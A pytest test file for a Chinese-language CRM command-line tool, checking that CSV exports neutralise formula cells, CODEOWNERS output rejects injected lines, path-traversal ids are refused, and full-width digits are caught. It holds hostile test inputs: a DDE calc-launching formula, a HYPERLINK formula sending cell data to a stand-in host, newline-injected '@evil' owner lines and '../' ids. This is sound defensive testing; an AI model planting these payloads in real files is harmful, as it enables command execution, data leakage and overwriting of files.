"""Nothing planted: CSV cells Excel would run, CODEOWNERS lines from hostile ids, ids that climb out of
records/, and digits that only look ASCII."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
import yaml
from conftest import customer_data, dump

CID = "粤IT2024001"
HYPERLINK = '=HYPERLINK("http://x.example/?d="&A1,"y")'
CALC = "=cmd|' /C calc'!A0"
DANGEROUS = (HYPERLINK, CALC, "+1+2", "-2+3", "@SUM(A1)", "\tTAB", "\rCR")


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def assert_no_formula(text: str) -> None:
    for cell in cells(text):
        assert not cell or cell[0] not in "=+-@\t\r＝＋－＠" or _number(cell), repr(cell)


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return cell.isascii()


def hostile_repo(repo) -> None:
    repo.customer(CID, name=HYPERLINK, need={"summary": CALC}, tags=["@SUM(A1)", "+1+2"],
                  stage="proposal", deal={"amount": 650000, "expected_close": "2024-06-30"},
                  stage_history=[{"stage": "lead", "on": "2024-01-05"}, {"stage": "proposal", "on": "2024-02-01"}])
    # the full-width forms an input method types (＝ ＋ － ＠), which an East Asian Excel may run too
    repo.customer("粤IT2024002", name="@" + HYPERLINK, region="-广东 深圳", need={"summary": "＝1+1"}, contacts=[
        {"name": "=王总监", "title": "-技术总监", "role": "decision_maker", "phone": "0755-8888-1234",
         "phone_kind": "work"},
        {"name": "＠李经理", "title": "＋生产经理", "role": "user", "phone": "0755-8888-1235", "phone_kind": "work"}])
    repo.followup(CID, "2024-05-10 14:00", summary=CALC, contact="=王总监",
                  next=[{"action": "=1+1", "due": "2024-05-10", "owner": "zhang"}])


def test_every_csv_output_neutralises_formula_cells(repo, run, here: Path) -> None:
    hostile_repo(repo)
    outputs = {}
    for name, args in (("customers", ["customers"]), ("agenda", ["agenda", "--all"]),
                       ("duplicates", ["duplicates", "--min-score", "50"]),
                       ("slowest-deals", ["report", "slowest-deals"])):
        result = run(repo, *args, "--format", "csv")
        assert result.exit_code == 0, result.output
        outputs[name] = result.stdout
    assert run(repo, "export", "--format", "csv", "--out", "tables").exit_code == 0
    for table in sorted((here / "tables").iterdir()):
        outputs[f"export {table.name}"] = table.read_text(encoding="utf-8-sig")
    assert len(outputs) >= 9  # customers, agenda, duplicates, a report and every exported table
    for text in outputs.values():
        assert_no_formula(text)
    customers = cells(outputs["customers"])
    assert "'" + HYPERLINK in customers
    exported = cells(outputs["export customers.csv"])
    assert "'" + HYPERLINK in exported and "'" + CALC in exported and "'＝1+1" in exported
    contacts = cells(outputs["export contacts.csv"])
    assert "'＠李经理" in contacts and "'＋生产经理" in contacts
    assert "'" + HYPERLINK in cells(outputs["duplicates"])
    assert "'" + HYPERLINK in cells(outputs["slowest-deals"])
    assert "'=1+1" in cells(outputs["agenda"]) or "'" + HYPERLINK in cells(outputs["agenda"])


def test_negative_numbers_stay_numbers(repo, run, here: Path) -> None:
    repo.customer(CID, custom={"调整": -5000, "备注": "-5000"})
    assert run(repo, "export", "--format", "csv", "--out", "tables").exit_code == 0
    rows = list(csv.DictReader(io.StringIO((here / "tables/customers.csv").read_text(encoding="utf-8-sig"))))
    assert json.loads(rows[0]["custom"]) == {"调整": -5000, "备注": "-5000"}


def test_rejects_file_neutralises_formula_cells(repo, run, here: Path) -> None:
    sheet = here / "in.csv"
    sheet.write_text("客户名称,所属行业,负责人,来源渠道\n" + f'"{CALC}",C3970,nobody,trade_show\n', encoding="utf-8")
    result = run(repo, "import", str(sheet), "--rejects", "rejects.csv")
    assert "拒绝 1" in result.output  # the team's language (zh): 1 rejected
    text = (here / "rejects.csv").read_text(encoding="utf-8")
    assert text.startswith("\ufeff")
    assert_no_formula(text)
    assert "'" + CALC in cells(text)


def test_export_import_round_trip_keeps_guarded_values(repo, run, here: Path) -> None:
    hostile_repo(repo)
    before = {p: p.read_bytes() for p in sorted((repo.root / "records").rglob("*.yaml"))}
    assert run(repo, "export", "--format", "csv", "--out", "tables").exit_code == 0
    customers = run(repo, "import", "tables/customers.csv", "--apply", "--format", "json")
    followups = run(repo, "import", "tables/followups.csv", "--apply", "--format", "json")
    assert json.loads(customers.output)["counts"] == {"new": 0, "updated": 0, "unchanged": 2, "rejected": 0}
    assert json.loads(followups.output)["counts"] == {"new": 0, "updated": 0, "unchanged": 1, "rejected": 0}
    assert {p: p.read_bytes() for p in sorted((repo.root / "records").rglob("*.yaml"))} == before


# --- CODEOWNERS ------------------------------------------------------------------------------


def test_codeowners_never_writes_a_line_from_a_hostile_id(repo, run) -> None:
    repo.customer(CID)
    repo.write("records/customers/x.yaml", dump(customer_data("x\n*\t@evil")))
    result = run(repo, "codeowners")
    assert result.exit_code == 1
    assert "error" in result.output and "dealbook check" in result.output
    assert not (repo.root / "CODEOWNERS").exists() and not (repo.root / ".github/CODEOWNERS").exists()
    check = run(repo, "codeowners", "--check")
    assert check.exit_code == 1


def test_codeowners_lines_come_from_valid_file_names_only(repo, run) -> None:
    repo.customer(CID)
    result = run(repo, "codeowners")
    assert result.exit_code == 0, result.output
    text = (repo.root / "CODEOWNERS").read_text(encoding="utf-8")
    assert f"/records/customers/{CID}.yaml @zhangwei" in text
    for line in text.splitlines():
        assert "\t" not in line and "\r" not in line


def test_codeowners_skips_git_handles_that_are_not_owners(repo, run) -> None:
    import copy

    from conftest import TEAM

    team = copy.deepcopy(TEAM)
    team["members"][0]["git"] = "zhangwei\n* @evil"
    repo.write("records/team.yaml", team)
    repo.customer(CID)
    result = run(repo, "codeowners")
    assert result.exit_code == 0, result.output
    text = (repo.root / "CODEOWNERS").read_text(encoding="utf-8")
    assert "evil" not in text
    assert f"/records/customers/{CID}.yaml @chenjing" in text  # zhang's customer falls back to the manager
    assert "注意:zhang 没有 git 账号" in result.output


# --- ids that reach a path ---------------------------------------------------------------------

CLIMBING = ["../../.github/workflows/x", "../../../../../tmp/x", "a/b", "..", ".hidden", "x\ny", "C:evil",
            "粤IT2024001/../../x"]
EXISTING = ["../../dealbook", "../team", "../../records/customers/粤IT2024001"]


def written_outside(repo, before: set[Path]) -> list[Path]:
    """Files made outside the records folders (the cache and the current folder `work/` aside)."""
    after = {p for p in repo.root.parent.rglob("*") if p.is_file()}
    allowed = (repo.root / "records", repo.root / ".dealbook-cache", repo.root.parent / "work")
    return sorted(p for p in after - before if not any(p.is_relative_to(folder) for folder in allowed))


@pytest.mark.parametrize("bad", CLIMBING)
def test_new_customer_refuses_an_id_that_is_not_a_file_name(repo, run, bad: str) -> None:
    before = {p for p in repo.root.parent.rglob("*") if p.is_file()}
    result = run(repo, "new", "customer", "--name", "A公司", "--industry", "C3970", "--region", "广东 深圳",
                 "--owner", "zhang", "--channel", "trade_show", "--contact", "王总监,技术总监,decision_maker",
                 "--no-interactive", "--id", bad)
    assert result.exit_code != 0
    assert "id" in result.output
    assert written_outside(repo, before) == []
    assert not list((repo.root / "records").rglob("*.yaml"))[1:], "only team.yaml"


@pytest.mark.parametrize("bad", CLIMBING + EXISTING)
@pytest.mark.parametrize("command", [
    ["log", "{id}", "--summary", "x", "--by", "zhang", "--no-interactive"],
    ["move", "{id}", "discovery", "--no-interactive"],
    ["set", "{id}", "tags=a"],
    ["show", "{id}"],
    ["history", "{id}"],
    ["history", "{id}", "--backfill"],
])
def test_commands_refuse_ids_that_are_not_file_names(repo, run, bad: str, command: list[str]) -> None:
    repo.customer(CID)
    repo.git_init()
    repo.commit()
    before = {p: p.read_bytes() for p in repo.root.parent.rglob("*") if p.is_file()}
    result = run(repo, *[part.format(id=bad) for part in command])
    assert result.exit_code in (1, 2), result.output
    said = ("不是客户编号", "没有客户")  # in the team's language (zh)
    assert any(words in result.output for words in said), result.output
    assert written_outside(repo, set(before)) == []
    assert {p: p.read_bytes() for p in before} == before


@pytest.mark.parametrize("bad,shown", [("粤IT2024001/../../x", "`粤IT2024001/../../x`"),
                                       ("粤IT\n2024001", "`粤IT<U+000A>2024001`")])
def test_a_refused_id_is_shown_as_typed_with_controls_by_their_code(repo, run, bad: str, shown: str) -> None:
    """The refusal wrote the id as Python escapes (`\\u7ca4IT2024001/../../x`): unreadable in Chinese."""
    repo.customer(CID)
    result = run(repo, "history", bad)
    assert result.exit_code == 2, result.output
    assert f"{shown} 不是客户编号" in result.output and "\\u" not in result.output  # the team's language (zh)


def test_import_refuses_ids_that_are_not_file_names(repo, run, here: Path) -> None:
    repo.customer(CID)
    sheet = here / "in.csv"
    rows = ["id,name,industry,owner,source.channel,created"]
    rows += [f'"{bad}",公司{n},C3970,zhang,trade_show,2024-01-05' for n, bad in enumerate(CLIMBING)]
    sheet.write_text("\n".join(rows) + "\n", encoding="utf-8")
    before = {p for p in repo.root.parent.rglob("*") if p.is_file()}
    result = run(repo, "import", str(sheet), "--apply", "--format", "json")
    assert result.exit_code == 0, result.output
    assert written_outside(repo, before) == []
    for path in (repo.root / "records/customers").iterdir():
        assert path.name.startswith("粤IT2024"), path


# --- ASCII digits ------------------------------------------------------------------------------


def test_full_width_digits_do_not_pass_the_id_rule(repo, run) -> None:
    repo.customer(CID)
    wide = "粤IT２０２４985"
    repo.write(f"records/customers/{wide}.yaml", dump(customer_data(wide)))
    result = run(repo, "check", "--format", "json")
    found = [(d["path"], d["code"]) for d in json.loads(result.output)["diagnostics"]]
    assert (f"records/customers/{wide}.yaml", "id-rule") in found


def test_full_width_digits_are_not_dates(repo, run) -> None:
    repo.customer(CID, created="２０２４-01-05")
    result = run(repo, "check", "--format", "json")
    codes = {d["code"] for d in json.loads(result.output)["diagnostics"] if d["severity"] == "error"}
    assert "bad-date" in codes


def test_import_reads_full_width_digits_as_digits_and_never_crashes_on_others(repo, run, here: Path) -> None:
    sheet = here / "in.csv"
    sheet.write_text("客户名称,所属行业,地区,负责人,来源渠道,联系人姓名及职务,联系方式,员工人数,成立年份\n"
                     "甲有限公司,C3970,广东 深圳,张伟,展会,王总(经理),0755-88881234,８００,２０１０\n"
                     "乙有限公司,C3970,广东 深圳,张伟,展会,王总(经理),0755-88881234,²,²０１０\n", encoding="utf-8")
    result = run(repo, "import", str(sheet), "--apply", "--format", "json")
    assert result.exit_code == 0, result.output
    rows = json.loads(result.output)["rows"]
    assert [r["status"] for r in rows] == ["new", "new"]
    first = yaml.safe_load((repo.root / rows[0]["path"]).read_text(encoding="utf-8"))
    assert first["size"]["employees"] == 800 and first["founded"] == 2010


def test_an_english_team_reads_the_id_refusal_in_english(repo, run) -> None:
    repo.customer(CID)
    repo.settings("as_of: 2024-05-20\nlanguage: en\n")
    result = run(repo, "set", "a/b", "tags=x")
    assert result.exit_code == 2
    assert 'Invalid value for ID: `a/b` is not a customer id: it holds a path separator or one of : * ? " < > |' \
        in result.output
